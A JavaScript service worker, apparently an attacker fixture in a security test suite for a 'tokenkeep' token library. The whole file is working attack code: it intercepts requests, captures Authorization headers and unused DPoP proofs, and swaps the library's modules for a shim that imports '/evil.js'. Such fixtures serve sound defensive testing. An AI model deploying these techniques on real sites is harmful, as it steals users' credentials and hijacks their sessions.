// A service worker of the attacker's. With `?replace` it puts a script before the package's own.

importScripts(trustedTypes.createPolicy("tokenkeep", { createScriptURL: (url) => url }).createScriptURL("/attack.js"));

const replaces = location.search === "?replace";

addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { origin, pathname, search } = new URL(event.request.url);
  if (!replaces && origin !== location.origin) {
    event.respondWith(pass(event.request));
  } else if (replaces && search === "" && ["/tokenkeep/index.js", "/tokenkeep/wasm/keep.js"].includes(pathname)) {
    const text = `import "/evil.js?replaced"; export * from "${pathname}?own";`;
    event.respondWith(new Response(text, { headers: { "Content-Type": "text/javascript" } }));
  }
});

async function pass(request) {
  const [authorization, proof] = ["Authorization", "DPoP"].map((name) => request.headers.get(name));
  if (request.url.endsWith("?hold") && authorization !== null && (proof === null || hasNonce(proof))) {
    attack.note("held", authorization);
    proof === null || attack.say("held", { held: proof });
    return Response.error();
  }
  attack.note("passing", request, await request.clone().text());
  const answer = await fetch(request);
  attack.note("passing", answer, await answer.clone().text());
  return answer;
}

/** Whether a server takes this proof. */
function hasNonce(proof) {
  return "nonce" in JSON.parse(atob(proof.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
}
